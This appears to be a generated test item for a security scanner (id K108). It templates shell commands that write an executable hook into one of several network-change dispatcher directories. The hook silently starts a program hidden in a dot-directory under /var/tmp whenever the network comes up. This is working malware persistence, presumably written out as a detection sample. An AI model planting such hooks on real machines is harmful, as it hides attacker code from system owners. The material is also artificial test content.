# id: K108
# mode: scan
# level: suspicious
# title: a script that runs when the network changes and starts a hidden program
# due: now
word name
pick path /etc/NetworkManager/dispatcher.d/10-$name /etc/network/if-up.d/$name /etc/dhcp/dhclient-exit-hooks.d/$name /etc/ppp/ip-up.d/$name /etc/networkd-dispatcher/routable.d/$name
mkdir -p "${path%/*}"
printf '#!/bin/sh\n/var/tmp/.%s/run >/dev/null 2>&1 &\n' "$name" >"$path"
chmod 755 "$path"
said path "$path"
